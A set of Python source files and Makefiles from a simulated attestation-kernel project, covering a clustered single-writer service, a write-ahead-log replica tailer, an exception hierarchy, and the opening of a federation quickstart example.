            self._tail_thread = threading.Thread(
                target=self._tail_loop,
                name=f"nexus-tail-{self.index}", daemon=True)
            self._tail_thread.start()
        self.server = SocketServer(router, host=config.host,
                                   port=config.port,
                                   workers=config.server_workers,
                                   reuse_port=True,
                                   binary=self.service.handle_binary)
        return self.server.start()

    def _tail_loop(self) -> None:
        config = self.config
        while not self._stopping.is_set():
            self._subscriber.wait(config.poll_interval)
            if self._stopping.is_set():
                break
            try:
                self.replica.poll()
            except ClusterError:
                # Fell across a compaction: rebuild the replica whole.
                # Sessions die with the old kernel — the same contract
                # as a worker restart.
                self.replica.rebuild()
            except Exception:  # noqa: BLE001 — the loop must survive
                # A transient read race (writer mid-truncate); the
                # next nudge retries.
                continue

    @property
    def private_address(self) -> tuple:
        """The worker's own (host, port) — heartbeats and tests."""
        if self.private_server is None:
            raise ClusterError("worker is not started")
        return self.private_server.address

    def stop(self) -> None:
        """Stop serving, stop tailing, release the medium and the bus."""
        self._stopping.set()
        if self.server is not None:
            self.server.stop()
        if self.private_server is not None:
            self.private_server.stop()
        if self._tail_thread is not None:
            self._tail_thread.join(timeout=2.0)
        if self.service is not None:
            self.service.close()
        if self._subscriber is not None:
            self._subscriber.close()
        if self._publisher is not None:
            self._publisher.close()
        if self._backend is not None:
            self._backend.close()

    def __enter__(self) -> "ClusterWorker":
        self.start()
        return self

    def __exit__(self, *_exc) -> None:
        self.stop()


def run_worker(config: ClusterConfig, index: int) -> None:
    """Process entry point: boot one worker and serve until terminated.

    This is the supervisor's ``multiprocessing`` target.  It is
    spawn-safe by construction: everything it needs arrives in the
    picklable ``config``, and all sockets, kernels and threads are
    created *after* the process boundary.
    """
    worker = ClusterWorker(config, index)
    done = threading.Event()

    def _terminate(_signum, _frame):
        done.set()

    signal.signal(signal.SIGTERM, _terminate)
    signal.signal(signal.SIGINT, _terminate)
    worker.start()
    try:
        done.wait()
    finally:
        worker.stop()
