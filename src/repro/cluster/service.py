"""Single-writer discipline at the service boundary.

Every worker in the fleet serves the full API on the shared address,
but only worker 0 — the writer, holder of the exclusive WAL lock — may
mutate durable state.  A :class:`ClusterService` on a follower
therefore routes by request kind:

* **reads** (authorize, explain, prove, introspection, …) are answered
  from the local replica — the scale-out path;
* **durable mutations** (say, create_resource, goal changes, policy
  changes, federation changes, revoke) are forwarded over the ordinary
  wire protocol to the writer's private address, and the reply is
  withheld until the local replica has replayed the writer's log up to
  the sequence the mutation produced — read-your-writes for the very
  client that mutated;
* **sessions** are brokered: ``open_session`` is forwarded (the writer
  owns the canonical session and the subject's process), then the same
  token is installed locally so this follower can serve the session's
  reads without another hop.  A request bearing a token this worker
  has never seen (the client reconnected to a different worker) is
  forwarded wholesale — the writer knows every token.

The forwarding transport is the same canonical JSON + HTTP framing
clients speak; there is no privileged side channel, so the writer
applies exactly the checks it would to any client.
"""

from __future__ import annotations

import json
import os
import threading
from typing import Optional

from repro.api import messages as msg
from repro.api.client import HttpTransport
from repro.api.errors import (ApiError, E_NO_SUCH_SESSION,
                              from_exception)
from repro.api.service import NexusService, Session
from repro.cluster.config import WRITER_ADDR
from repro.cluster.replica import KernelReplica
from repro.errors import ClusterError, ReproError

#: Request kinds that mutate durable (journaled) state — the ones a
#: follower must route to the writer.  Ephemeral operations (ports,
#: IPC, chain import/export, proving) and all reads stay local.
FORWARDED_KINDS = frozenset({
    msg.SayRequest.KIND,
    msg.CreateResourceRequest.KIND,
    msg.SetGoalRequest.KIND,
    msg.ClearGoalRequest.KIND,
    msg.PolicyPutRequest.KIND,
    msg.PolicyApplyRequest.KIND,
    msg.PolicyRollbackRequest.KIND,
    msg.IamPutRoleRequest.KIND,
    msg.IamBindRequest.KIND,
    msg.IamApplyRequest.KIND,
    msg.PeerAddRequest.KIND,
    msg.FederationAdmitRequest.KIND,
    msg.RevokeRequest.KIND,
})


def read_writer_address(directory: str) -> tuple:
    """The writer's private ``(host, port)`` from its address file."""
    path = os.path.join(directory, WRITER_ADDR)
    try:
        with open(path) as handle:
            host, port, _pid = handle.read().split()
    except (OSError, ValueError) as exc:
        raise ClusterError(
            f"no writer address published under {directory!r} "
            f"(is the writer worker running?)") from exc
    return host, int(port)


def write_address_file(path: str, host: str, port: int) -> None:
    """Atomically publish ``host port pid`` at ``path``."""
    tmp_path = path + ".tmp"
    with open(tmp_path, "w") as handle:
        handle.write(f"{host} {port} {os.getpid()}\n")
    os.replace(tmp_path, path)


class ClusterService(NexusService):
    """A :class:`NexusService` that knows its place in the fleet."""

    def __init__(self, kernel=None, *, replica: Optional[KernelReplica]
                 = None, role: str = "writer", directory: Optional[str]
                 = None, worker_index: int = 0, coalesce: bool = False):
        if (role == "follower") != (replica is not None):
            raise ClusterError("followers serve a KernelReplica; the "
                               "writer serves its own kernel")
        self._replica = replica
        if replica is not None:
            kernel = replica.kernel
        super().__init__(kernel, coalesce=coalesce)
        self.role = role
        self.directory = directory
        self.worker_index = worker_index
        self._upstream: Optional[HttpTransport] = None
        self._upstream_lock = threading.Lock()
        self.forwarded = 0

    # The replica may rebuild (swapping its kernel object), so resolve
    # the kernel through it on every access instead of pinning the
    # object the constructor saw.
    @property
    def kernel(self):
        if self._replica is not None:
            return self._replica.kernel
        return self._kernel

    @kernel.setter
    def kernel(self, value):
        self._kernel = value

    # -- follower routing ------------------------------------------------

    def dispatch(self, request: msg.ApiRequest) -> msg.ApiMessage:
        """Route by kind, then fall through to normal dispatch."""
        if self.role == "follower":
            kind = request.KIND
            if kind == msg.OpenSessionRequest.KIND:
                return self._forward_open_session(request)
            token = getattr(request, "session", None)
            if token is not None and not self._knows(token):
                return self._forward(request, sync=kind in FORWARDED_KINDS
                                     or kind == msg.CloseSessionRequest.KIND)
            if kind == msg.CloseSessionRequest.KIND:
                return self._forward_close_session(request)
            if kind in FORWARDED_KINDS:
                return self._forward_mutation(request)
        return super().dispatch(request)

    def _knows(self, token: str) -> bool:
        with self._session_lock:
            return token in self._sessions

    def _forward_open_session(self, request) -> msg.ApiMessage:
        response = self._forward(request, sync=True)
        if isinstance(response, msg.SessionResponse):
            # Adopt the writer's session: the replica has replayed the
            # subject's process by now (sync above), so this follower
            # serves the token's reads locally from here on.  The
            # adopted copy never owns the process — closing it here
            # must not exit a process the writer's copy still owns.
            session = Session(token=response.session, pid=response.pid,
                              principal=response.principal,
                              opened_at=self.kernel.now(),
                              owns_process=False)
            with self._session_lock:
                self._sessions[session.token] = session
        return response

    def _forward_close_session(self, request) -> msg.ApiMessage:
        with self._session_lock:
            self._sessions.pop(request.session, None)
        return self._forward(request, sync=True)

    def _forward_mutation(self, request) -> msg.ApiMessage:
        try:
            session = self.session(request.session)
        except ApiError as exc:
            return msg.ErrorResponse.from_error(exc)
        session.record(request.KIND)
        response = self._forward(request, sync=True)
        if isinstance(response, msg.ErrorResponse):
            session.record_error()
            if response.code == E_NO_SUCH_SESSION:
                # The writer disowned the token (it restarted and its
                # ephemeral session table died).  Evict the adopted
                # copy so this follower converges with the fleet: the
                # client reopens its session, as after any restart.
                with self._session_lock:
                    self._sessions.pop(request.session, None)
        return response

    def _forward(self, request, sync: bool = False) -> msg.ApiMessage:
        """One round trip to the writer; never raises (dispatch
        contract).  ``sync`` holds the reply until the local replica
        has replayed up to the writer's resulting log position."""
        try:
            response = self._roundtrip(request)
        except Exception as exc:  # noqa: BLE001 — boundary maps all
            return msg.ErrorResponse.from_error(from_exception(exc))
        self.forwarded += 1
        if sync and self._replica is not None and not isinstance(
                response, msg.ErrorResponse):
            try:
                self._sync_replica()
            except Exception as exc:  # noqa: BLE001
                return msg.ErrorResponse.from_error(from_exception(exc))
        return response

    def _roundtrip(self, request) -> msg.ApiMessage:
        """Forward one typed request over the (serialized, persistent)
        upstream connection, re-resolving the writer's address once if
        the connection is dead (the writer may have been restarted on a
        fresh port)."""
        with self._upstream_lock:
            for attempt in (0, 1):
                transport = self._ensure_upstream()
                try:
                    return transport.roundtrip(request)
                except (OSError, ReproError):
                    self._drop_upstream()
                    if attempt:
                        raise
        raise ClusterError("unreachable")  # pragma: no cover

    def _ensure_upstream(self) -> HttpTransport:
        if self._upstream is None:
            if self.directory is None:
                raise ClusterError("follower has no cluster directory "
                                   "to find the writer through")
            host, port = read_writer_address(self.directory)
            self._upstream = HttpTransport.over_socket(host, port)
        return self._upstream

    def _drop_upstream(self) -> None:
        if self._upstream is not None:
            connection = getattr(self._upstream, "connection", None)
            if connection is not None:
                connection.close()
            self._upstream = None

    def _sync_replica(self) -> None:
        """Read-your-writes: wait until the replica has replayed the
        writer's current log position."""
        response = self._roundtrip(msg.StorageStatsRequest())
        if isinstance(response, msg.StorageStatsResponse) \
                and response.attached:
            target = int(response.stats.get("seq", 0))
            if not self._replica.wait_for_seq(target):
                raise ClusterError(
                    f"replica did not catch up to writer seq {target}")

    # -- identity --------------------------------------------------------

    def worker_document(self) -> dict:
        """Who is serving: fleet index, role, OS pid, replay position.

        Served as ``GET /cluster/worker`` — *outside* the versioned API
        surface, so the wire schema (and the differential harness's
        byte-for-byte guarantees) are untouched by clustering.
        """
        if self._replica is not None:
            seq = self._replica.seq
        else:
            stats = self.kernel.storage_stats()
            seq = int(stats.get("seq", 0)) if stats.get("attached") else 0
        return {"worker": self.worker_index, "role": self.role,
                "pid": os.getpid(), "seq": seq,
                "boot_id": self.kernel.boot.boot_id()}

    def install_cluster_routes(self, router) -> None:
        """Mount the (non-API) cluster introspection route."""
        from repro.net.http import HTTPResponse

        def worker_info(_request) -> HTTPResponse:
            body = json.dumps(self.worker_document(),
                              sort_keys=True).encode()
            return HTTPResponse(200, body,
                                {"Content-Type": "application/json"})

        router.add("GET", "/cluster/worker", worker_info, exact=True)

    def cluster_router(self, prefix: Optional[str] = None):
        """A Router serving the full API plus the cluster routes."""
        from repro.api.service import API_PREFIX
        router = self.router(prefix if prefix is not None else API_PREFIX)
        self.install_cluster_routes(router)
        return router

    def close(self) -> None:
        """Release the upstream connection (follower side)."""
        with self._upstream_lock:
            self._drop_upstream()
