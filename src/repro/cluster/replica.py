"""A follower's kernel replica: restore once, then tail the shared WAL.

A replica is a journal-less kernel built from the shared medium the
same way :meth:`~repro.kernel.kernel.NexusKernel.restore` builds one —
snapshot state loaded, live records replayed — except nothing is ever
*attached*: the replica's kernel has no persistence observers, so its
own (ephemeral) mutations never try to append to a log it may only
read.  Durable state arrives exclusively by replaying the writer's
records.

Tailing is incremental: the replica remembers the byte offset of the
last consumed record and scans only the log's new suffix, verifying
that the suffix chains to the consumed head and continues the sequence
— the same tamper/torn-tail taxonomy a cold restore enforces, applied
record-by-record while the log grows.

Replay and the serving path share the kernel, so every record is
applied under the same four-lock order ``snapshot_now`` uses
(federation → kernel state → labels → resources) — a request thread
never observes a half-applied record.  The two *composite* record
types (``peer_revoke``, ``epoch_bump``) replay through kernel methods
that take their own locks, so they are applied bare.

Compaction (a writer ``write_snapshot`` resetting the log) shrinks the
file; the tailer detects that, rewinds to offset zero, and — because
the journal's head/sequence continue across compaction — verifies the
reset log still chains to what it already consumed.  Only a replica
that *lagged across* a compaction (its next record was compacted away)
is unrecoverable incrementally; that raises
:class:`~repro.errors.ClusterError` and the owner rebuilds.
"""

from __future__ import annotations

import os
import threading
import time
from typing import Any, Dict, Optional

from repro.errors import ClusterError, StorageError
from repro.kernel.kernel import NexusKernel
from repro.storage.backend import FileBackend, LOG_NAME
from repro.storage.persist import KernelPersistence
from repro.storage.wal import GENESIS_HEAD, decode_snapshot, scan_log

#: Record types whose replay handlers take their own kernel locks
#: (composites routed through kernel methods); wrapping them in the
#: four-lock order would deadlock on the federation lock they re-take.
_SELF_LOCKING = frozenset({"peer_revoke", "epoch_bump"})

#: Boot retries: a new replica can race the writer's snapshot/reset
#: pair and transiently read an old snapshot with a fresh log.
_BOOT_ATTEMPTS = 3


class KernelReplica:
    """One process's read-only, continuously-replayed kernel."""

    def __init__(self, directory: str, *, migrations=None,
                 **kernel_kwargs: Any):
        self.directory = directory
        self._log_path = os.path.join(directory, LOG_NAME)
        self._migrations = migrations
        self._kernel_kwargs = dict(kernel_kwargs)
        #: Serializes catch-up: poll() may be called from the tail
        #: thread and from request threads doing read-your-writes.
        self._lock = threading.Lock()
        self.kernel: NexusKernel = None  # set by _boot
        self.records_replayed = 0
        self.rebuilds = 0
        self._boot_with_retry()

    # -- boot ------------------------------------------------------------

    def _boot_with_retry(self) -> None:
        last: Optional[Exception] = None
        for attempt in range(_BOOT_ATTEMPTS):
            try:
                self._boot()
                return
            except StorageError as exc:
                last = exc
                time.sleep(0.05 * (attempt + 1))
        raise ClusterError(
            f"replica failed to boot from {self.directory!r} after "
            f"{_BOOT_ATTEMPTS} attempts: {last}") from last

    def _boot(self) -> None:
        """Cold restore into a fresh kernel (mirrors ``Journal.load``'s
        linkage checks, plus tracking the consumed byte offset)."""
        backend = FileBackend(self.directory, read_only=True)
        raw_snapshot = backend.read_snapshot()
        base_seq, base_head, state = 0, GENESIS_HEAD, None
        if raw_snapshot is not None:
            base_seq, base_head, state = decode_snapshot(
                raw_snapshot, self._migrations)
        raw_log = backend.read_log()
        result = scan_log(raw_log, self._migrations)
        live = [r for r in result.records if r.seq > base_seq]
        stale = len(result.records) - len(live)
        if live and stale == 0:
            if live[0].seq != base_seq + 1:
                raise StorageError(
                    f"log begins at seq {live[0].seq} but the snapshot "
                    f"covers through {base_seq}")
            if live[0].prev != base_head:
                raise StorageError(
                    "log does not chain to the snapshot head")
        kernel = NexusKernel(**self._kernel_kwargs)
        persistence = KernelPersistence(kernel)
        if state is not None:
            persistence.load_state(state)
        for record in live:
            persistence.apply_record(record)
        self.kernel = kernel
        self._persistence = persistence
        self._seq = live[-1].seq if live else base_seq
        self._head = live[-1].hash if live else base_head
        self._offset = result.valid_length

    # -- tailing ---------------------------------------------------------

    @property
    def seq(self) -> int:
        """Sequence number of the last record applied to this replica."""
        return self._seq

    def poll(self) -> int:
        """Consume whatever the writer appended since the last poll.

        Returns the number of records applied.  Thread-safe; callers
        race benignly (one wins the lock and consumes, the rest see an
        up-to-date replica).
        """
        with self._lock:
            return self._consume()

    def _consume(self) -> int:
        try:
            size = os.path.getsize(self._log_path)
        except OSError:
            size = 0
        if size < self._offset:
            # The writer compacted: snapshot published, log reset.  The
            # chain head continues across the reset, so start over at
            # offset zero and let the chain checks prove continuity.
            return self._resync_from_start()
        if size == self._offset:
            return 0
        try:
            with open(self._log_path, "rb") as handle:
                handle.seek(self._offset)
                chunk = handle.read()
        except OSError:
            return 0
        try:
            result = scan_log(chunk, self._migrations)
        except StorageError:
            # A reset-then-regrown log (compaction raced two polls):
            # the remembered offset now points mid-record.  Distinguish
            # that from tampering by rescanning from the top — a clean
            # full scan that chains to our state is a compaction, and
            # anything else raises from there with the true story.
            return self._resync_from_start()
        return self._apply_suffix(result, self._offset)

    def _resync_from_start(self) -> int:
        try:
            with open(self._log_path, "rb") as handle:
                chunk = handle.read()
        except OSError:
            return 0
        result = scan_log(chunk, self._migrations)
        return self._apply_suffix(result, 0)

    def _apply_suffix(self, result, base_offset: int) -> int:
        applied = 0
        for record in result.records:
            if record.seq <= self._seq:
                # Stale records below a fresh snapshot's coverage (the
                # writer crashed between snapshot and reset): already
                # part of this replica's state.
                continue
            if record.seq != self._seq + 1:
                raise ClusterError(
                    f"replica lagged across a compaction: next log "
                    f"record is seq {record.seq} but the replica is at "
                    f"{self._seq}; a full rebuild is required")
            if record.prev != self._head:
                raise ClusterError(
                    f"log suffix does not chain to the replica head at "
                    f"seq {record.seq}")
            self._apply(record)
            self._seq = record.seq
            self._head = record.hash
            applied += 1
        self._offset = base_offset + result.valid_length
        self.records_replayed += applied
        return applied

    def _apply(self, record) -> None:
        kernel = self.kernel
        if record.type in _SELF_LOCKING:
            self._persistence.apply_record(record)
            return
        # Same order as NexusKernel.snapshot_now: with all four held no
        # request thread is mid-read on the structures replay mutates.
        with kernel.federation.lock:
            with kernel._state_lock.write_locked():
                with kernel.labels._lock.write_locked():
                    with kernel.resources._lock:
                        self._persistence.apply_record(record)

    def wait_for_seq(self, target: int, timeout: float = 5.0) -> bool:
        """Poll until the replica has applied ``target`` (read-your-
        writes after forwarding a mutation).  True on success."""
        deadline = time.monotonic() + timeout
        while self._seq < target:
            self.poll()
            if self._seq >= target:
                return True
            if time.monotonic() >= deadline:
                return False
            time.sleep(0.002)
        return True

    def rebuild(self) -> None:
        """Full re-restore (after lagging across a compaction).

        The fresh kernel replaces :attr:`kernel` in place; sessions and
        other ephemeral state die with the old one, exactly as they
        would across a process restart.
        """
        with self._lock:
            self.rebuilds += 1
            self._boot_with_retry()

    def stats(self) -> Dict[str, Any]:
        """Wire-safe tailer counters."""
        return {"seq": self._seq, "offset": self._offset,
                "records_replayed": self.records_replayed,
                "rebuilds": self.rebuilds}
