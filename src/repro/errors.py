"""Exception hierarchy for the logical-attestation stack.

Every layer of the simulated Nexus raises exceptions derived from
:class:`ReproError` so callers can catch at whatever granularity they need:
a guard that wants to deny on any internal failure catches ``ReproError``;
a test asserting a specific misbehaviour catches the precise subclass.

Every class carries a stable, machine-readable ``code`` (``E_*``).  The
service boundary (:mod:`repro.api`) maps internal exceptions to wire-level
structured errors by this code — never by matching message strings — so
messages stay free to evolve while clients keep a stable contract.
"""

from __future__ import annotations


class ReproError(Exception):
    """Base class for all errors raised by this library."""

    #: Stable machine-readable error code; subclasses override.
    code = "E_INTERNAL"


# --------------------------------------------------------------------------
# NAL logic errors
# --------------------------------------------------------------------------

class NALError(ReproError):
    """Base class for logic-layer errors."""

    code = "E_NAL"


class ParseError(NALError):
    """The NAL text could not be parsed into a formula or principal."""

    code = "E_PARSE"

    def __init__(self, message: str, position: int = -1, text: str = ""):
        super().__init__(message)
        self.position = position
        self.text = text


class ProofError(NALError):
    """A proof object is structurally invalid or does not check."""

    code = "E_PROOF"


class UnificationError(NALError):
    """A goal pattern could not be matched against a concrete formula."""

    code = "E_UNIFICATION"


# --------------------------------------------------------------------------
# Crypto / TPM errors
# --------------------------------------------------------------------------

class CryptoError(ReproError):
    """Base class for cryptographic failures."""

    code = "E_CRYPTO"


class SignatureError(CryptoError):
    """A signature failed to verify."""

    code = "E_SIGNATURE"


class SealError(CryptoError):
    """TPM seal/unseal failed (usually a PCR mismatch)."""

    code = "E_SEAL"


class TPMError(ReproError):
    """TPM device misuse (bad register index, not owned, etc.)."""

    code = "E_TPM"


# --------------------------------------------------------------------------
# Storage errors
# --------------------------------------------------------------------------

class StorageError(ReproError):
    """Base class for attested-storage failures."""

    code = "E_STORAGE"


class IntegrityError(StorageError):
    """Stored data failed an integrity (hash) check: tampering or replay."""

    code = "E_INTEGRITY"


class ReplayError(IntegrityError):
    """Stored data is authentic but stale: a replay of an old version."""

    code = "E_REPLAY"


class BadRecord(StorageError):
    """A WAL record or snapshot failed validation: bad magic, checksum
    mismatch, broken hash chain, or undecodable body — tampering, never
    silently skipped."""

    code = "E_BAD_RECORD"


class CrashError(StorageError):
    """Raised by the fault-injecting block device to simulate power loss."""

    code = "E_CRASH"


class BootError(ReproError):
    """The simulated Nexus boot was aborted (e.g. DIR/state-file mismatch)."""

    code = "E_BOOT"


# --------------------------------------------------------------------------
# Kernel errors
# --------------------------------------------------------------------------

class KernelError(ReproError):
    """Base class for simulated-kernel failures."""

    code = "E_KERNEL"


class NoSuchProcess(KernelError):
    """Referenced IPD does not exist."""

    code = "E_NO_SUCH_PROCESS"


class NoSuchPort(KernelError):
    """Referenced IPC port does not exist."""

    code = "E_NO_SUCH_PORT"


class NoSuchResource(KernelError):
    """Referenced kernel resource (file, port, vdir, ...) does not exist."""

    code = "E_NO_SUCH_RESOURCE"


class UnknownSyscall(KernelError):
    """The syscall trampoline was handed a name it has no handler for."""

    code = "E_UNKNOWN_SYSCALL"


class AccessDenied(KernelError):
    """The guard denied the operation."""

    code = "E_ACCESS_DENIED"

    def __init__(self, message: str = "access denied", *,
                 subject=None, operation=None, resource=None, reason=""):
        super().__init__(message)
        self.subject = subject
        self.operation = operation
        self.resource = resource
        self.reason = reason


class InterpositionError(KernelError):
    """Reference-monitor installation or invocation failed."""

    code = "E_INTERPOSITION"


class PolicyError(KernelError):
    """A policy document is malformed or cannot be planned/applied."""

    code = "E_POLICY"


class NoSuchPolicy(PolicyError):
    """Referenced policy set (or version of one) does not exist."""

    code = "E_NO_SUCH_POLICY"


class QuotaExceeded(KernelError):
    """A per-principal quota (e.g. guard-cache entries) was exhausted."""

    code = "E_QUOTA_EXCEEDED"


class IamError(PolicyError):
    """An IAM role/statement document is malformed or cannot compile."""

    code = "E_IAM"


class NoSuchRole(IamError):
    """Referenced IAM role (or version of one) does not exist."""

    code = "E_NO_SUCH_ROLE"


# --------------------------------------------------------------------------
# Federation errors (cross-kernel credential exchange)
# --------------------------------------------------------------------------

class FederationError(KernelError):
    """Base class for cross-kernel credential-exchange failures."""

    code = "E_FEDERATION"


class UntrustedPeer(FederationError):
    """A credential bundle is rooted at a key no registered, trusted peer
    holds (or the peer has been revoked)."""

    code = "E_UNTRUSTED_PEER"


class BadChain(FederationError):
    """A credential bundle failed verification: a broken certificate
    chain, a bad manifest signature, or a leaf that is not a label."""

    code = "E_BAD_CHAIN"


class ClusterError(ReproError):
    """A cluster-runtime failure: a worker that cannot reach the writer,
    a replica that fell unrecoverably behind the shared log, or a
    supervisor that cannot keep the fleet alive."""

    code = "E_CLUSTER"


# --------------------------------------------------------------------------
# Application-layer errors
# --------------------------------------------------------------------------

class AppError(ReproError):
    """Base class for application-layer failures."""

    code = "E_APP"


class CobufError(AppError):
    """Illegal operation on a constrained buffer (content inspection, bad
    collation)."""

    code = "E_COBUF"


class SandboxViolation(AppError):
    """Tenant code failed the Python-sandbox analysis or tried to escape."""

    code = "E_SANDBOX_VIOLATION"


class PolicyViolation(AppError):
    """A document/image/BGP-message violated its use policy."""

    code = "E_POLICY_VIOLATION"
