"""Exception hierarchy for the logical-attestation stack.

Every layer of the simulated Nexus raises exceptions derived from
:class:`ReproError` so callers can catch at whatever granularity they need:
a guard that wants to deny on any internal failure catches ``ReproError``;
a test asserting a specific misbehaviour catches the precise subclass.
"""

from __future__ import annotations


class ReproError(Exception):
    """Base class for all errors raised by this library."""


# --------------------------------------------------------------------------
# NAL logic errors
# --------------------------------------------------------------------------

class NALError(ReproError):
    """Base class for logic-layer errors."""


class ParseError(NALError):
    """The NAL text could not be parsed into a formula or principal."""

    def __init__(self, message: str, position: int = -1, text: str = ""):
        super().__init__(message)
        self.position = position
        self.text = text


class ProofError(NALError):
    """A proof object is structurally invalid or does not check."""


class UnificationError(NALError):
    """A goal pattern could not be matched against a concrete formula."""


# --------------------------------------------------------------------------
# Crypto / TPM errors
# --------------------------------------------------------------------------

class CryptoError(ReproError):
    """Base class for cryptographic failures."""


class SignatureError(CryptoError):
    """A signature failed to verify."""


class SealError(CryptoError):
    """TPM seal/unseal failed (usually a PCR mismatch)."""


class TPMError(ReproError):
    """TPM device misuse (bad register index, not owned, etc.)."""


# --------------------------------------------------------------------------
# Storage errors
# --------------------------------------------------------------------------

class StorageError(ReproError):
    """Base class for attested-storage failures."""


class IntegrityError(StorageError):
    """Stored data failed an integrity (hash) check: tampering or replay."""


class ReplayError(IntegrityError):
    """Stored data is authentic but stale: a replay of an old version."""


class CrashError(StorageError):
    """Raised by the fault-injecting block device to simulate power loss."""


class BootError(ReproError):
    """The simulated Nexus boot was aborted (e.g. DIR/state-file mismatch)."""


# --------------------------------------------------------------------------
# Kernel errors
# --------------------------------------------------------------------------

class KernelError(ReproError):
    """Base class for simulated-kernel failures."""


class NoSuchProcess(KernelError):
    """Referenced IPD does not exist."""


class NoSuchPort(KernelError):
    """Referenced IPC port does not exist."""


class NoSuchResource(KernelError):
    """Referenced kernel resource (file, port, vdir, ...) does not exist."""


class AccessDenied(KernelError):
    """The guard denied the operation."""

    def __init__(self, message: str = "access denied", *,
                 subject=None, operation=None, resource=None, reason=""):
        super().__init__(message)
        self.subject = subject
        self.operation = operation
        self.resource = resource
        self.reason = reason


class InterpositionError(KernelError):
    """Reference-monitor installation or invocation failed."""


class QuotaExceeded(KernelError):
    """A per-principal quota (e.g. guard-cache entries) was exhausted."""


# --------------------------------------------------------------------------
# Application-layer errors
# --------------------------------------------------------------------------

class AppError(ReproError):
    """Base class for application-layer failures."""


class CobufError(AppError):
    """Illegal operation on a constrained buffer (content inspection, bad
    collation)."""


class SandboxViolation(AppError):
    """Tenant code failed the Python-sandbox analysis or tried to escape."""


class PolicyViolation(AppError):
    """A document/image/BGP-message violated its use policy."""
