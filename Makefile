# One-word entry points for the tier-1 suite, benchmarks, and doc checks.

PYTHON ?= python
export PYTHONPATH := src$(if $(PYTHONPATH),:$(PYTHONPATH))

.PHONY: test bench bench-smoke bench-serving bench-storage \
	bench-cluster bench-iam docs-check lint coverage coverage-storage \
	coverage-cluster coverage-iam check

## tier-1: every test and benchmark, fail-fast (the CI gate)
test:
	$(PYTHON) -m pytest -x -q

## paper-style experiments only (prints the figure/table report)
bench:
	$(PYTHON) -m pytest -q benchmarks

## the same experiments with a minimal measurement budget: proves the
## benchmark code paths and emits the BENCH_*.json artifacts cheaply
bench-smoke:
	BENCH_SMOKE=1 $(PYTHON) -m pytest -q benchmarks

## the serving-path experiments alone: fig8 transport rows (in-process
## vs HTTP-JSON vs binary codec, with the <= 1.2x binary gate) and
## fig11 socket-server models (JSON vs binary columns, adaptive
## coalescing gated >= pooled on both workloads); emits BENCH_api.json
## and BENCH_serving.json
bench-serving:
	$(PYTHON) -m pytest -q benchmarks/test_fig8_api_path.py \
	    benchmarks/test_fig11_serving.py

## the durable-journal experiment alone (WAL overhead, replay
## throughput, warm restart); emits BENCH_storage.json
bench-storage:
	$(PYTHON) -m pytest -q benchmarks/test_fig12a_storage.py

## the cluster scale-out experiment alone (forked fleets at 1/2/4
## workers, guard-heavy authorize); emits BENCH_cluster.json
bench-cluster:
	$(PYTHON) -m pytest -q benchmarks/test_fig12b_cluster.py

## the IAM experiments at smoke budget: fig13 (authority-backed vs
## cached static proofs) and fig14 (tenants x zipf x policy churn);
## emits BENCH_authority.json and BENCH_iam.json, then proves the
## incremental-compilation row landed with a >1x speedup
bench-iam:
	BENCH_SMOKE=1 $(PYTHON) -m pytest -q \
	    benchmarks/test_fig13_authority.py \
	    benchmarks/test_fig14_iam_macro.py
	$(PYTHON) tools/check_bench_row.py BENCH_iam.json \
	    "incremental recompile ratio" --min 1.0

## execute every python snippet in the documentation
docs-check:
	$(PYTHON) tools/check_docs.py README.md docs/architecture.md \
	    docs/api.md docs/nal.md docs/policy.md docs/iam.md \
	    docs/federation.md docs/storage.md docs/cluster.md

## docstring coverage for the trusted packages + the service boundary
lint:
	$(PYTHON) tools/lint_docstrings.py src/repro/kernel src/repro/nal \
	    src/repro/api src/repro/policy src/repro/iam \
	    src/repro/federation src/repro/cluster

## line-coverage floor for the federation subsystem (stdlib tracer)
coverage:
	$(PYTHON) tools/check_coverage.py --target src/repro/federation \
	    --floor 85 -- -q tests/test_federation.py \
	    tests/test_differential.py tests/test_nal_properties.py

## line-coverage floor for the storage subsystem (WAL, snapshots,
## fault injection, attested storage managers)
coverage-storage:
	$(PYTHON) tools/check_coverage.py --target src/repro/storage \
	    --floor 85 -- -q tests/test_storage_recovery.py \
	    tests/test_storage.py tests/test_storage_inspect.py

## line-coverage floor for the cluster runtime (supervisor, replicas,
## epoch bus, sharding); the forked-fleet tests exercise the
## parent-side supervisor paths the tracer can see
coverage-cluster:
	$(PYTHON) tools/check_coverage.py --target src/repro/cluster \
	    --floor 85 -- -q tests/test_cluster.py

## line-coverage floor for the IAM compiler (model, engine, deny
## table, condition authorities)
coverage-iam:
	$(PYTHON) tools/check_coverage.py --target src/repro/iam \
	    --floor 85 -- -q tests/test_iam.py tests/test_iam_properties.py

check: lint docs-check coverage coverage-storage coverage-cluster \
	coverage-iam bench-iam test
