# One-word entry points for the tier-1 suite, benchmarks, and doc checks.

PYTHON ?= python
export PYTHONPATH := src$(if $(PYTHONPATH),:$(PYTHONPATH))

.PHONY: test bench docs-check lint check

## tier-1: every test and benchmark, fail-fast (the CI gate)
test:
	$(PYTHON) -m pytest -x -q

## paper-style experiments only (prints the figure/table report)
bench:
	$(PYTHON) -m pytest -q benchmarks

## execute every python snippet in the documentation
docs-check:
	$(PYTHON) tools/check_docs.py README.md docs/architecture.md \
	    docs/api.md docs/nal.md docs/policy.md

## docstring coverage for the trusted packages + the service boundary
lint:
	$(PYTHON) tools/lint_docstrings.py src/repro/kernel src/repro/nal \
	    src/repro/api src/repro/policy

check: lint docs-check test
