#!/usr/bin/env python3
"""Federation quickstart: credentials that outlive their kernel (§2.4).

Two Nexus kernels, each behind its own HTTP-mounted attestation service:

1. on kernel **A**, a certifier process says its credential;
2. the credential set leaves A as a **signed certificate-chain bundle**
   (one TPM-rooted chain per label, bound by an NK-signed manifest);
3. kernel **B** pins A's platform root key in its peer registry, admits
   the bundle, and the remote subject becomes a first-class local
   principal (``site-a./proc/ipd/N``);
4. the admitted principal earns the **same verdict** as an equivalently
   credentialed local principal;
5. tampering with any certificate in the bundle flips admission into a
   structured ``E_BAD_CHAIN`` deny;
6. re-admitting the same bundle is served from the digest-keyed import
   cache — no RSA verification on the warm path.

Run:  python examples/federation_quickstart.py
"""

import json

from repro.api import ApiError, NexusClient, NexusService
from repro.kernel.kernel import NexusKernel

PEER = "site-a"


def main() -> None:
    # Two platforms with distinct TPM identities.
    service_a = NexusService(NexusKernel(key_seed=1001))
    service_b = NexusService(NexusKernel(key_seed=7007))
    client_a = NexusClient.over_http(service_a)
    client_b = NexusClient.over_http(service_b)

    # Kernel A: the certifier mints its credential and exports it.
    certifier = client_a.open_session("certifier")
    certifier.say("ok(door)")
    exported = certifier.export_credentials()
